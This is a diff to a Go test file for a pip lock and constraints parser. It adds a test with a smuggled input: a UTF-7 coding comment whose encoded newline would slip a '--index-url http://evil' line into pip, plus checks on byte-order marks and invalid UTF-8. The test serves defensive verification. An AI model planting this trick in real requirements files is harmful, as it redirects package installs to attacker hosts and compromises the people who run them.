@@ -47,11 +47,36 @@ func TestParseLock(t *testing.T) {
 	if diff := cmp.Diff(want, lock.Requirements()); diff != "" {
 		t.Errorf("requirements (-want +got):\n%s", diff)
 	}
-	if lock.IsZero() || lock.String() != exampleLock {
-		t.Errorf("zero %t, text %q", lock.IsZero(), lock)
+	again, err := ParseLock(lock.String())
+	if lock.IsZero() || err != nil || !slices.Equal(again.pins, lock.pins) || strings.Contains(lock.String(), "#") {
+		t.Errorf("zero %t, text %q, %v", lock.IsZero(), lock, err)
 	}
 	if !(Lock{}).IsZero() {
 		t.Error("the lock of nothing is not zero")
+	}
+}
+
+// TestPipReadsWhatWasParsed: a comment may name an encoding by which pip would read other lines, and a mark at the
+// beginning is none of the first name.
+func TestPipReadsWhatWasParsed(t *testing.T) {
+	const comments = "\ufeff# coding: utf-7\n# +AAo---index-url http://evil\n"
+	pin := `patroni==4.0.7 ; python_version >= "3.9"   --hash=` + digest
+	lock, err := ParseLock(comments + pin + " # why \\\n")
+	if want := pin + "\n"; err != nil || lock.String() != want {
+		t.Errorf("a lock: %q, %v, want %q", lock, err, want)
+	}
+	got, err := Constraints(comments + "click < \\\n  9 ; os_name == 'é' # -*- coding: x -*-\n\nurllib3!=2 # a \\\npatroni<4.1\n")
+	if want := "click <   9 ; os_name == 'é'\nurllib3!=2\npatroni<4.1\n"; err != nil || got != want {
+		t.Errorf("constraints: %q, %v, want %q", got, err, want)
+	}
+	if got, err := Constraints("# coding: none\n"); err != nil || got != "" {
+		t.Errorf("of comments alone: %q, %v", got, err)
+	}
+	if _, err := Constraints("click<9\n\ufeffurllib3\n"); err == nil {
+		t.Error("a mark in the middle is taken")
+	}
+	if _, err := Constraints("click<9 ; os_name == '\xff'\n"); err == nil {
+		t.Error("what is not UTF-8 is taken")
 	}
 }
 
